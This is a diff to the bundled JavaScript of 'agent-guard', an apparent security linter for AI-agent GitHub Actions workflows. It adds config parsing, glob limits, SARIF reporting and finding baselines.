+var RULE_IDS = CHECKS.map((c) => c.meta.id);
+
+// src/glob.ts
+var import_picomatch = __toESM(require_picomatch2());
+var MAX_WILDCARDS = 3;
+var OPTIONS = { dot: true, nonegate: true, noextglob: true };
+var compiled = /* @__PURE__ */ new Map();
+function globProblem(pattern) {
+  if (pattern.trim() === "") return "an empty pattern";
+  const wildcards = pattern.match(/\*+/g)?.length ?? 0;
+  if (wildcards > MAX_WILDCARDS) {
+    return `'${pattern}' has ${wildcards} wildcards; at most ${MAX_WILDCARDS} are allowed (each one more multiplies the time to match a path)`;
+  }
+  return void 0;
+}
+function globMatch(pattern, file) {
+  let matcher = compiled.get(pattern);
+  if (!matcher) {
+    const problem = globProblem(pattern);
+    if (problem) throw new Error(`glob ${problem}`);
+    compiled.set(pattern, matcher = (0, import_picomatch.default)(pattern, OPTIONS));
+  }
+  const segments = file.replace(/\\/g, "/").replace(/^(\.\/)+/, "").split("/");
+  for (let i = 0; i < segments.length; i++) if (matcher(segments.slice(i).join("/"))) return true;
+  return false;
+}
+
+// src/config.ts
+var EMPTY_CONFIG = { ignore: [], severity: {}, trustedUsers: [], trustedBots: [], actions: [], clis: [] };
+var ConfigError = class extends Error {
+};
+function readConfig(path14) {
+  let text;
+  try {
+    text = import_node_fs2.default.readFileSync(path14, "utf8");
+  } catch (err) {
+    throw new ConfigError(`${path14}:1:1: cannot read config: ${err.code ?? "error"}`);
+  }
+  return parseConfig(path14, text);
+}
+function parseConfig(path14, text) {
+  const file = makeSourceFile(path14, text);
+  let root;
+  try {
+    root = loadYaml(file);
+  } catch (err) {
+    const pos = positionOf(file, err instanceof YamlLoadError ? err.offset : 0);
+    throw new ConfigError(`${path14}:${pos.line}:${pos.column}: invalid YAML: ${err.message}`);
+  }
+  const config = { ignore: [], severity: {}, trustedUsers: [], trustedBots: [], actions: [], clis: [] };
+  if (!root || root.kind === "scalar" && root.value === null) return config;
+  const fail2 = (node, message) => {
+    const pos = positionOf(file, node.start);
+    throw new ConfigError(`${path14}:${pos.line}:${pos.column}: ${message}`);
+  };
+  const map = expectMap(root, "the config", fail2);
+  for (const { key: key2, value } of map.pairs) {
+    switch (key2.text) {
+      case "ignore":
+        config.ignore = expectSeq(value, "ignore", fail2).map((item) => readIgnore(item, fail2));
+        break;
+      case "severity":
+        for (const p of expectMap(value, "severity", fail2).pairs) {
+          const level = p.value.kind === "scalar" ? p.value.text : "";
+          if (!SEVERITIES.includes(level)) fail2(p.value, `severity of '${p.key.text}' must be one of ${SEVERITIES.join(", ")}`);
+          checkRuleId(p.key, p.key.text, fail2);
+          config.severity[p.key.text] = level;
+        }
+        break;
+      case "trusted-users":
+        config.trustedUsers = strings(value, "trusted-users", fail2);
+        break;
+      case "trusted-bots":
+        config.trustedBots = strings(value, "trusted-bots", fail2);
+        break;
+      case "agents":
+        readAgents(value, config, fail2, file);
+        break;
+      default:
+        fail2(key2, `unknown key '${key2.text}' (expected ignore, severity, trusted-users, trusted-bots, agents)`);
+    }
+  }
+  return config;
+}
+function checkRuleId(node, id, fail2) {
+  if (!RULE_IDS.includes(id)) fail2(node, unknownRuleMessage(id));
+  return id;
+}
+function unknownRuleMessage(id) {
+  return `unknown rule '${id}' (rules: ${RULE_IDS.join(", ")})`;
+}
+function expectMap(node, what, fail2) {
+  if (node.kind !== "map") fail2(node, `${what} must be a mapping`);
+  return node;
+}
+function expectSeq(node, what, fail2) {
+  if (node.kind !== "seq") fail2(node, `${what} must be a list`);
+  return node.items;
+}
+function strings(node, what, fail2) {
+  return expectSeq(node, what, fail2).map((i) => i.kind === "scalar" ? i.text : fail2(i, `${what} entries must be strings`));
+}
+function readIgnore(node, fail2) {
+  const out = {};
+  for (const { key: key2, value } of expectMap(node, "an ignore entry", fail2).pairs) {
+    if (value.kind !== "scalar") fail2(value, `'${key2.text}' must be a string`);
+    const text = value.text;
+    if (key2.text === "rule") out.rule = checkRuleId(value, text, fail2);
+    else if (key2.text === "file") {
+      const problem = globProblem(text);
+      if (problem) fail2(value, `file: ${problem}`);
+      out.file = text;
+    } else if (key2.text === "job") out.job = text;
+    else fail2(key2, `unknown key '${key2.text}' in ignore entry (expected rule, file, job)`);
+  }
+  if (!out.rule && !out.file && !out.job) fail2(node, "an ignore entry needs rule, file or job");
+  return out;
+}
+function readAgents(node, config, fail2, file) {
+  for (const { key: key2, value } of expectMap(node, "agents", fail2).pairs) {
+    if (key2.text === "actions") {
+      for (const item of expectSeq(value, "agents.actions", fail2)) config.actions.push(readAction(item, fail2));
+    } else if (key2.text === "commands") {
+      for (const item of expectSeq(value, "agents.commands", fail2)) config.clis.push(readCommand(item, fail2));
+    } else fail2(key2, `unknown key '${key2.text}' in agents (expected actions, commands)`);
+  }
+  void file;
+}
+var SHELLS2 = ["full", "restricted", "none"];
+function readAction(node, fail2) {
+  const m = expectMap(node, "an agent action", fail2);
+  const fields = {};
+  for (const p of m.pairs) {
+    if (!["uses", "name", "prompt-inputs", "key-inputs", "token-inputs", "shell", "network", "reads-thread"].includes(p.key.text)) {
+      fail2(p.key, `unknown key '${p.key.text}' in agent action (expected uses, name, prompt-inputs, key-inputs, token-inputs, shell, network, reads-thread)`);
+    }
+    fields[p.key.text] = p.value;
+  }
+  if (!fields.uses || fields.uses.kind !== "scalar") fail2(node, "an agent action needs 'uses'");
+  const uses = fields.uses.text;
+  const shell = fields.shell?.kind === "scalar" ? fields.shell.text : "none";
+  if (!SHELLS2.includes(shell)) fail2(fields.shell, `shell must be one of ${SHELLS2.join(", ")}`);
+  return {
+    id: `config:${uses}`,
+    name: fields.name?.kind === "scalar" ? fields.name.text : uses,
+    uses: [uses],
+    promptInputs: fields["prompt-inputs"] ? strings(fields["prompt-inputs"], "prompt-inputs", fail2) : ["prompt"],
+    keyInputs: fields["key-inputs"] ? strings(fields["key-inputs"], "key-inputs", fail2) : [],
+    tokenInputs: fields["token-inputs"] ? strings(fields["token-inputs"], "token-inputs", fail2) : [],
+    keyHandling: "process",
+    gate: { kind: "none" },
+    readsThread: fields["reads-thread"]?.kind === "scalar" && fields["reads-thread"].text === "true" ? "always" : "never",
+    defaults: { shell, network: fields.network?.kind === "scalar" && fields.network.text === "true", writesFiles: shell !== "none" }
+  };
+}
+function readCommand(node, fail2) {
+  const m = expectMap(node, "an agent command", fail2);
+  const fields = {};
+  for (const p of m.pairs) {
+    if (!["command", "name", "bypass-flags", "key-env", "shell"].includes(p.key.text)) {
+      fail2(p.key, `unknown key '${p.key.text}' in agent command (expected command, name, bypass-flags, key-env, shell)`);
+    }
+    fields[p.key.text] = p.value;
+  }
+  if (!fields.command || fields.command.kind !== "scalar") fail2(node, "an agent command needs 'command'");
+  const command2 = fields.command.text;
+  const shell = fields.shell?.kind === "scalar" ? fields.shell.text : "full";
+  if (!SHELLS2.includes(shell)) fail2(fields.shell, `shell must be one of ${SHELLS2.join(", ")}`);
+  return {
+    id: `config:${command2}`,
+    name: fields.name?.kind === "scalar" ? fields.name.text : command2,
+    commands: [command2],
+    bypassFlags: fields["bypass-flags"] ? strings(fields["bypass-flags"], "bypass-flags", fail2) : [],
+    defaults: { shell, network: shell === "full", writesFiles: true },
+    keyEnv: fields["key-env"] ? strings(fields["key-env"], "key-env", fail2) : [],
+    instructionFiles: []
+  };
+}
+
+// src/action/lint.ts
+var import_node_fs7 = __toESM(require("node:fs"));
+var import_node_path4 = __toESM(require("node:path"));
+
+// src/baseline.ts
+var import_node_crypto = require("node:crypto");
+var import_node_fs3 = __toESM(require("node:fs"));
+var import_node_path2 = __toESM(require("node:path"));
+
+// src/report/common.ts
+var path2 = __toESM(require("path"));
+var TOOL_NAME = "agent-guard";
+var TOOL_URI = "https://github.com/agent-guard/agent-guard";
+function cmpStr(a, b) {
+  return a < b ? -1 : a > b ? 1 : 0;
+}
+function cmpOpt(a, b) {
+  return cmpStr(a ?? "", b ?? "");
+}
+function compareFindings(a, b) {
+  return cmpStr(a.file, b.file) || a.line - b.line || a.column - b.column || cmpStr(a.rule, b.rule) || severityRank(b.severity) - severityRank(a.severity) || cmpOpt(a.job, b.job) || cmpOpt(a.step, b.step) || cmpStr(a.message, b.message);
+}
+function sortFindings(findings) {
+  return [...findings].sort(compareFindings);
+}
+function sortErrors(errors) {
+  return [...errors].sort(
+    (a, b) => cmpStr(a.file, b.file) || a.line - b.line || a.column - b.column || cmpStr(a.message, b.message)
+  );
+}
+function sortRules(rules) {
+  const byId = /* @__PURE__ */ new Map();
+  for (const r of rules) if (!byId.has(r.id)) byId.set(r.id, r);
+  return [...byId.values()].sort((a, b) => cmpStr(a.id, b.id));
+}
+function countBySeverity(findings) {
+  const counts = { critical: 0, high: 0, medium: 0, low: 0 };
+  for (const f of findings) counts[f.severity]++;
+  return counts;
+}
+function plural(n, one, many = `${one}s`) {
+  return `${n} ${n === 1 ? one : many}`;
+}
+function severityBreakdown(counts) {
+  return SEVERITIES.filter((s) => counts[s] > 0).map((s) => `${counts[s]} ${s}`).join(", ");
+}
+function errorFileCount(errors) {
+  return new Set(errors.map((e) => e.file)).size;
+}
+function countLine(result) {
+  const counts = countBySeverity(result.findings);
+  const n = result.findings.length;
+  const head = n === 0 ? "no findings" : `${plural(n, "finding")} (${severityBreakdown(counts)})`;
+  let line = `${head} in ${plural(result.stats.files, "file")}`;
+  const bad = errorFileCount(result.errors);
+  if (bad > 0) line += `, ${plural(bad, "file")} could not be read`;
+  return line;
+}
+function repoPath(file, root) {
+  let f = file;
+  if (root !== void 0) {
+    let rel;
+    if (path2.isAbsolute(f)) rel = path2.relative(path2.resolve(root), f);
+    else if (/^[A-Za-z]:[\\/]/.test(f) && /^[A-Za-z]:[\\/]/.test(root)) rel = path2.win32.relative(root, f);
+    if (rel) f = rel;
+  }
+  f = f.replace(/\\/g, "/");
+  while (f.startsWith("./")) f = f.slice(2);
+  return f;
+}
+var UNSAFE_RE = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/g;
+function sanitizeTerminal(s) {
+  return s.replace(UNSAFE_RE, (ch) => {
+    const cp = ch.charCodeAt(0);
+    if (cp < 32) return String.fromCharCode(9216 + cp);
+    if (cp === 127) return "\u2421";
+    return "\uFFFD";
+  });
+}
+function splitLines(text) {
+  return text.split("\n").map((l) => l.endsWith("\r") ? l.slice(0, -1) : l);
+}
+function wrap(text, width) {
+  const out = [];
+  for (const para of text.split("\n")) {
+    const words = para.split(/[ \t]+/).filter((w) => w !== "");
+    if (words.length === 0) {
+      out.push("");
+      continue;
+    }
+    let line = "";
+    for (const w of words) {
+      if (line === "") line = w;
+      else if (line.length + 1 + w.length <= width) line += ` ${w}`;
+      else {
+        out.push(line);
+        line = w;
+      }
+    }
+    out.push(line);
+  }
+  while (out.length > 1 && out[out.length - 1] === "") out.pop();
+  return out;
+}
+
+// src/report/sarif.ts
+var import_crypto = require("crypto");
+var path3 = __toESM(require("path"));
+var import_url = require("url");
+var SARIF_SCHEMA_URI = "https://json.schemastore.org/sarif-2.1.0.json";
+var SRCROOT = "%SRCROOT%";
+var FINGERPRINT_KEY = "agentGuardFindingHash/v1";
+var SECURITY_SEVERITY = {
+  critical: "9.5",
+  high: "8.0",
+  medium: "5.5",
+  low: "3.0"
+};
+function sarifLevel(s) {
+  return s === "critical" || s === "high" ? "error" : s === "medium" ? "warning" : "note";
+}
+function toSarif(result, opts) {
+  const rules = sortRules(result.rules);
+  const ruleIndex = /* @__PURE__ */ new Map();
+  const descriptors = [];
+  for (const r of rules) {
+    ruleIndex.set(r.id, descriptors.length);
+    descriptors.push(ruleDescriptor(r));
+  }
+  const findings = sortFindings(result.findings);
+  for (const f of findings) {
+    if (!ruleIndex.has(f.rule)) {
+      ruleIndex.set(f.rule, descriptors.length);
+      descriptors.push(ruleDescriptor(fallbackRule(f.rule, findings)));
+    }
+  }
+  const fingerprints = computeFingerprints(findings, opts.root);
+  const results = findings.map((f, i) => sarifResult(f, ruleIndex.get(f.rule) ?? 0, fingerprints[i], opts.root));
+  const errors = sortErrors(result.errors);
+  const nothingRead = errors.length > 0 && errorFileCount(errors) >= result.stats.files;
+  const invocation = { executionSuccessful: !nothingRead };
+  if (errors.length > 0) invocation.toolExecutionNotifications = errors.map((e) => notification(e, opts.root));
+  const driver = {
+    name: TOOL_NAME,
+    version: opts.toolVersion
+  };
+  if (/^\d+\.\d+\.\d+(?:-[0-9A-Za-z.-]+)?(?:\+[0-9A-Za-z.-]+)?$/.test(opts.toolVersion)) {
+    driver.semanticVersion = opts.toolVersion;
+  }
+  driver.informationUri = TOOL_URI;
+  driver.rules = descriptors;
+  const run = {
+    tool: { driver },
+    invocations: [invocation]
+  };
+  if (opts.root !== void 0) run.originalUriBaseIds = { [SRCROOT]: { uri: dirUri(opts.root) } };
+  run.results = results;
+  run.columnKind = "utf16CodeUnits";
+  return {
+    $schema: SARIF_SCHEMA_URI,
+    version: "2.1.0",
+    runs: [run]
+  };
+}
+function formatSarif(result, opts) {
+  return `${JSON.stringify(toSarif(result, opts), null, 2)}
+`;
+}
+function ruleDescriptor(r) {
+  const plain = markdownToText(r.help).trim();
+  const full = markdownToText(firstParagraph(r.help)).trim() || r.title;
+  const docsNote = r.docs && !r.help.includes(r.docs);
+  const d = {
+    id: r.id,
+    name: pascalCase(r.id),
+    shortDescription: { text: r.title },
+    fullDescription: { text: full },
+    defaultConfiguration: { level: sarifLevel(r.severity) }
+  };
+  if (r.docs) d.helpUri = r.docs;
+  d.help = {
+    text: (plain || r.title) + (docsNote ? `
+
+Documentation: ${r.docs}` : ""),
+    markdown: (r.help.trim() || r.title) + (docsNote ? `
+
+[Documentation](${r.docs})` : "")
+  };
+  d.properties = {
+    "security-severity": SECURITY_SEVERITY[r.severity],
+    tags: ["security", "github-actions", "ai-agent"]
+  };
+  return d;
+}
+function fallbackRule(id, findings) {
+  let severity = "low";
+  for (const f of findings) if (f.rule === id && severityRank(f.severity) > severityRank(severity)) severity = f.severity;
+  return { id, title: id, severity, help: "", docs: "" };
+}
+function pascalCase(id) {
+  return id.split(/[^A-Za-z0-9]+/).filter((p) => p !== "").map((p) => p[0].toUpperCase() + p.slice(1)).join("");
+}
+function markdownToText(md2) {
+  return md2.replace(/\r\n/g, "\n").replace(/^```[^\n]*\n([\s\S]*?)^```[ \t]*$/gm, (_m, body) => body.replace(/\n$/, "")).replace(/!\[([^\]]*)\]\([^)]*\)/g, "$1").replace(/\[([^\]]+)\]\(([^)\s]+)[^)]*\)/g, (_m, text, url) => text === url ? url : `${text} (${url})`).replace(/`([^`\n]+)`/g, "$1").replace(/^#{1,6}[ \t]+/gm, "").replace(/(\*\*|__)(?=\S)([^\n]*?\S)\1/g, "$2").replace(/(^|[\s(])[*_](?=\S)([^*_\n]*?\S)[*_](?=[\s).,;:!?]|$)/gm, "$1$2");
+}
+function firstParagraph(md2) {
+  for (const p of md2.replace(/\r\n/g, "\n").split(/\n[ \t]*\n/)) {
+    const t = p.trim();
+    if (t === "" || t.startsWith("#") || t.startsWith("```")) continue;
+    return t.replace(/\s*\n\s*/g, " ");
+  }
+  return "";
+}
+function sarifResult(f, ruleIndex, fingerprint, root) {
+  const r = {
+    ruleId: f.rule,
+    ruleIndex,
+    level: sarifLevel(f.severity),
+    message: { text: resultMessage(f) },
+    locations: [{ physicalLocation: physicalLocation(f.file, f, root) }],
+    partialFingerprints: { [FINGERPRINT_KEY]: fingerprint }
+  };
+  if (f.related?.length) {
+    r.relatedLocations = f.related.map((h, id) => ({ id, physicalLocation: physicalLocation(h.file, h, root), message: { text: h.note } }));
+  }
+  if (f.path.length > 0) {
+    r.codeFlows = [
+      {
+        threadFlows: [
+          {
+            locations: f.path.map((h) => ({
+              location: { physicalLocation: physicalLocation(h.file, h, root), message: { text: h.note } }
+            }))
+          }
+        ]
+      }
+    ];
+  }
+  const props = {
+    severity: f.severity,
+    confidence: f.confidence,
+    capabilities: [...f.capabilities]
+  };
+  if (f.job !== void 0) props.job = f.job;
+  if (f.step !== void 0) props.step = f.step;
+  r.properties = props;
+  return r;
+}
+function resultMessage(f) {
+  const parts = [f.message.trim()];
+  if (f.capabilities.length > 0) parts.push(`The agent holds: ${f.capabilities.join(", ")}.`);
+  if (f.fix.trim() !== "") parts.push(`Fix: ${f.fix.trim()}`);
+  return parts.join("\n\n");
+}
+function physicalLocation(file, span, root) {
+  const loc2 = { artifactLocation: artifactLocation(file, root) };
+  const region = sarifRegion(span);
+  if (region) loc2.region = region;
+  return loc2;
+}
+function sarifRegion(s) {
+  if (!(s.line >= 1)) return void 0;
+  const region = { startLine: s.line };
+  const hasCol = s.column >= 1;
+  if (hasCol) region.startColumn = s.column;
+  const endLine = s.endLine !== void 0 && s.endLine >= s.line ? s.endLine : void 0;
+  if (endLine !== void 0) region.endLine = endLine;
+  if (s.endColumn !== void 0 && s.endColumn >= 1 && hasCol) {
+    if ((endLine ?? s.line) > s.line || s.endColumn > s.column) {
+      if (endLine === void 0) region.endLine = s.line;
+      region.endColumn = s.endColumn;
+    }
+  }
+  return region;
+}
+function artifactLocation(file, root) {
+  const rel = repoPath(file, root);
+  if (rel.startsWith("/")) return { uri: `file://${encodePath(rel, false)}` };
+  if (/^[A-Za-z]:\//.test(rel)) return { uri: `file:///${rel.slice(0, 2)}${encodePath(rel.slice(2), false)}` };
+  return { uri: encodePath(rel, true), uriBaseId: SRCROOT };
+}
+function encodePath(p, relative3) {
+  return p.split("/").map((seg, i) => {
+    let e = encodeURI(seg).replace(/\?/g, "%3F").replace(/#/g, "%23");
+    if (relative3 && i === 0) e = e.replace(/:/g, "%3A");
+    return e;
+  }).join("/");
+}
+function dirUri(root) {
+  const href = (0, import_url.pathToFileURL)(path3.resolve(root)).href;
+  return href.endsWith("/") ? href : `${href}/`;
+}
+function notification(e, root) {
+  return {
+    level: "error",
+    message: { text: e.message },
+    locations: [{ physicalLocation: physicalLocation(e.file, e, root) }]
+  };
+}
+function messageWithoutLines(message) {
+  return message.replace(/\b(lines?|ln|columns?|cols?)(\s*)\d+(?:\s*[-–,]\s*\d+)*/gi, "$1$2#").replace(/\bL\d+(?:-L?\d+)?\b/g, "L#").replace(/(\.[A-Za-z0-9]+):\d+(?::\d+)?/g, "$1:#").replace(/\s+/g, " ").trim();
+}
+function findingFingerprintBase(f, root) {
+  const parts = [FINGERPRINT_KEY, f.rule, repoPath(f.file, root), f.job ?? "", f.step ?? "", messageWithoutLines(f.message)];
+  return (0, import_crypto.createHash)("sha256").update(parts.join("\0")).digest("hex").slice(0, 32);
+}
+function computeFingerprints(findings, root) {
+  const seen = /* @__PURE__ */ new Map();
+  return findings.map((f) => {
+    const base = findingFingerprintBase(f, root);
+    const n = (seen.get(base) ?? 0) + 1;
+    seen.set(base, n);
+    return `${base}:${n}`;
+  });
+}
+
+// src/baseline.ts
+var BASELINE_VERSION = 1;
+var BaselineError = class extends ConfigError {
+};
+function baselineRoot(cwd) {
+  let dir = import_node_path2.default.resolve(cwd);
+  for (; ; ) {
+    if (import_node_fs3.default.existsSync(import_node_path2.default.join(dir, ".git"))) return dir;
+    const parent = import_node_path2.default.dirname(dir);
+    if (parent === dir) return import_node_path2.default.resolve(cwd);
+    dir = parent;
+  }
+}
+function relativeFile(file, cwd, root) {
+  const rel = import_node_path2.default.relative(root, import_node_path2.default.resolve(cwd, file));
+  return rel.split(import_node_path2.default.sep).join("/");
+}
+function entryKey(f, cwd, root) {
+  const file = relativeFile(f.file, cwd, root);
+  const job = f.job ?? null;
+  const step = f.step ?? null;
+  const fingerprint = (0, import_node_crypto.createHash)("sha256").update(["agent-guard-baseline/v1", f.rule, file, job ?? "", step ?? "", messageWithoutLines(f.message)].join("\0")).digest("hex").slice(0, 32);
+  return { rule: f.rule, file, job, step, fingerprint };
+}
+function cmp(a, b) {
+  return a < b ? -1 : a > b ? 1 : 0;
+}
+function createBaseline(findings, cwd, root = baselineRoot(cwd)) {
+  const byPrint = /* @__PURE__ */ new Map();
+  for (const f of findings) {
+    const key2 = entryKey(f, cwd, root);
+    const seen = byPrint.get(key2.fingerprint);
+    if (seen) seen.count++;
+    else byPrint.set(key2.fingerprint, { ...key2, count: 1 });
+  }
+  const entries = [...byPrint.values()].sort(
+    (a, b) => cmp(a.file, b.file) || cmp(a.job ?? "", b.job ?? "") || cmp(a.step ?? "", b.step ?? "") || cmp(a.rule, b.rule) || cmp(a.fingerprint, b.fingerprint)
+  );
+  return { version: BASELINE_VERSION, findings: entries };
+}
+function formatBaseline(baseline) {
+  const lines = baseline.findings.map(
+    (e) => `    ${JSON.stringify({ rule: e.rule, file: e.file, job: e.job, step: e.step, fingerprint: e.fingerprint, count: e.count })}`
+  );
+  return `{
+  "version": ${baseline.version},
+  "findings": [${lines.length ? `
+${lines.join(",\n")}
+  ` : ""}]
+}
+`;
+}
+function writeBaseline(file, baseline) {
+  try {
+    import_node_fs3.default.mkdirSync(import_node_path2.default.dirname(import_node_path2.default.resolve(file)), { recursive: true });
+    import_node_fs3.default.writeFileSync(file, formatBaseline(baseline));
+  } catch (err) {
+    throw new BaselineError(`${file}: cannot write baseline: ${err.code ?? err.message}`);
+  }
+}
+function readBaseline(file) {
+  let text;
+  try {
+    text = import_node_fs3.default.readFileSync(file, "utf8");
+  } catch (err) {
+    throw new BaselineError(`${file}: cannot read baseline: ${err.code ?? "error"}`);
+  }
+  return parseBaseline(file, text);
+}
+function jsonErrorOffset(text) {
+  let i = 0;
+  const ws = () => {
+    while (i < text.length && " 	\n\r".includes(text[i])) i++;
+  };
+  const fail2 = () => {
+    throw i;
+  };
+  const literal = (word) => {
+    for (const ch of word) if (text[i++] !== ch) i--, fail2();
+  };
+  const string = () => {
+    i++;
+    while (i < text.length && text[i] !== '"') {
+      const c = text.charCodeAt(i);
+      if (c < 32) fail2();
+      if (text[i] === "\\") {
+        i++;
+        if (text[i] === "u") {
+          if (!/^[0-9a-fA-F]{4}$/.test(text.slice(i + 1, i + 5))) fail2();
+          i += 4;
+        } else if (!'"\\/bfnrt'.includes(text[i] ?? "x")) fail2();
+      }
+      i++;
+    }
+    if (text[i] !== '"') fail2();
+    i++;
+  };
+  const number = () => {
+    const m = /^-?(?:0|[1-9][0-9]*)(?:\.[0-9]+)?(?:[eE][+-]?[0-9]+)?/.exec(text.slice(i));
+    if (!m || m[0] === "" || m[0] === "-") fail2();
+    i += m[0].length;
+  };
+  const value = () => {
+    ws();
+    const c = text[i];
+    if (c === "{") {
+      i++;
+      ws();
+      if (text[i] === "}") return void i++;
+      for (; ; ) {
+        ws();
+        if (text[i] !== '"') fail2();
+        string();
+        ws();
+        if (text[i] !== ":") fail2();
+        i++;
+        value();
+        ws();
+        if (text[i] === ",") i++;
+        else if (text[i] === "}") return void i++;
+        else fail2();
+      }
+    }
+    if (c === "[") {
+      i++;
+      ws();
+      if (text[i] === "]") return void i++;
+      for (; ; ) {
+        value();
+        ws();
+        if (text[i] === ",") i++;
+        else if (text[i] === "]") return void i++;
+        else fail2();
+      }
+    }
+    if (c === '"') return string();
+    if (c === "t") return literal("true");
+    if (c === "f") return literal("false");
+    if (c === "n") return literal("null");
+    return number();
+  };
+  try {
+    value();
+    ws();
+    if (i < text.length) fail2();
+  } catch (at) {
+    if (typeof at === "number") return at;
+    throw at;
+  }
+  return text.length;
+}
+function lineColumn(text, offset) {
+  const before = text.slice(0, offset);
+  const line = before.split("\n").length;
+  const column = before.length - before.lastIndexOf("\n");
+  return `:${line}:${column}`;
+}
+function parseBaseline(file, text) {
+  let data;
+  try {
+    data = JSON.parse(text);
+  } catch (err) {
+    const message = err.message.split("\n")[0].replace(/, "[^]*" is not valid JSON$/, "");
+    throw new BaselineError(`${file}${lineColumn(text, jsonErrorOffset(text))}: baseline is not valid JSON: ${message}`);
+  }
+  const bad = (what) => {
+    throw new BaselineError(`${file}: not an agent-guard baseline: ${what}`);
+  };
+  if (data === null || typeof data !== "object" || Array.isArray(data)) bad("expected a JSON object");
+  const top = data;
+  if (top.version !== BASELINE_VERSION) bad(`"version" must be ${BASELINE_VERSION}`);
+  for (const key2 of Object.keys(top)) if (key2 !== "version" && key2 !== "findings") bad(`unknown key "${key2}"`);
+  if (!Array.isArray(top.findings)) bad('"findings" must be an array');
+  const findings = top.findings.map((item, i) => {
+    const where = `findings[${i}]`;
+    if (item === null || typeof item !== "object" || Array.isArray(item)) return bad(`${where} must be an object`);
+    const e = item;
+    for (const key2 of Object.keys(e)) {
+      if (!["rule", "file", "job", "step", "fingerprint", "count"].includes(key2)) bad(`${where} has unknown key "${key2}"`);
+    }
+    for (const key2 of ["rule", "file", "fingerprint"]) if (typeof e[key2] !== "string" || e[key2] === "") bad(`${where}.${key2} must be a non-empty string`);
+    for (const key2 of ["job", "step"]) if (e[key2] !== null && typeof e[key2] !== "string") bad(`${where}.${key2} must be a string or null`);
+    if (!Number.isInteger(e.count) || e.count < 1) bad(`${where}.count must be a whole number >= 1`);
+    return { rule: e.rule, file: e.file, job: e.job, step: e.step, fingerprint: e.fingerprint, count: e.count };
+  });
+  return { version: BASELINE_VERSION, findings };
+}
+function applyBaseline(findings, baseline, cwd, root = baselineRoot(cwd)) {
+  const left = /* @__PURE__ */ new Map();
+  for (const e of baseline.findings) {
+    const id = [e.fingerprint, e.rule, e.file, e.job ?? "", e.step ?? ""].join("\0");
+    const seen = left.get(id);
+    if (seen) seen.count += e.count;
+    else left.set(id, { entry: e, count: e.count });
+  }
+  const fresh = [];
+  const known = [];
+  for (const f of sortFindings(findings)) {
+    const k = entryKey(f, cwd, root);
+    const slot = left.get([k.fingerprint, k.rule, k.file, k.job ?? "", k.step ?? ""].join("\0"));
+    if (slot && slot.count > 0) {
+      slot.count--;
+      known.push(f);
+    } else {
+      fresh.push(f);
+    }
+  }
+  const gone = [...left.values()].filter((s) => s.count > 0).map((s) => ({ ...s.entry, count: s.count }));
+  return { fresh, known, gone };
+}
+function baselineNote(file, outcome) {
+  const known = outcome.known.length;
+  const gone = outcome.gone.reduce((n, e) => n + e.count, 0);
+  let line = `baseline ${file}: ${known} known finding${known === 1 ? "" : "s"} not reported`;
+  if (gone > 0) line += `, ${gone} baselined finding${gone === 1 ? "" : "s"} no longer found (fixed or changed; refresh with --write-baseline)`;
+  return line;
+}
 
 // src/lint.ts
+var import_node_fs4 = __toESM(require("node:fs"));
+var import_node_path3 = __toESM(require("node:path"));
 function lint(options) {
   const started = performance.now();
   const config = options.config ?? EMPTY_CONFIG;
@@ -22143,7 +21228,7 @@ var DiskCache = class {
 };
 
 // src/online/github.ts
-var import_rest = __toESM(require_dist_node12());
+var import_core = __toESM(require_dist_node8());
 var GitHubError = class extends Error {
   constructor(kind, message, status) {
     super(message);
@@ -22164,7 +21249,7 @@ var GitHubClient = class {
     this.options = options;
     this.baseUrl = (options.baseUrl || DEFAULT_API_URL).replace(/\/+$/, "");
     this.authenticated = !!options.token;
-    this.octokit = new import_rest.Octokit({ auth: options.token || void 0, baseUrl: this.baseUrl, userAgent: options.userAgent ?? "agent-guard", log: SILENT });
+    this.octokit = new import_core.Octokit({ auth: options.token || void 0, baseUrl: this.baseUrl, userAgent: options.userAgent ?? "agent-guard", log: SILENT });
     this.gate = new Semaphore(Math.max(1, options.concurrency ?? 8));
     this.perPage = Math.min(100, Math.max(1, options.perPage ?? 100));
     this.log = options.log ?? (() => {
@@ -23161,9 +22246,13 @@ function parseScanArgs(args) {
         out.org = value();
         if (!/^[A-Za-z0-9](?:[A-Za-z0-9-]{0,38})$/.test(out.org)) throw new OnlineUsageError(`'${out.org}' is not an organisation or user name`);
         break;
-      case "--repo-filter":
-        out.repoFilter.push(value());
+      case "--repo-filter": {
+        const glob = value();
+        const problem = globProblem(glob);
+        if (problem) throw new OnlineUsageError(`--repo-filter: ${problem}`);
+        out.repoFilter.push(glob);
         break;
+      }
       case "--include-archived":
         out.includeArchived = true;
         break;
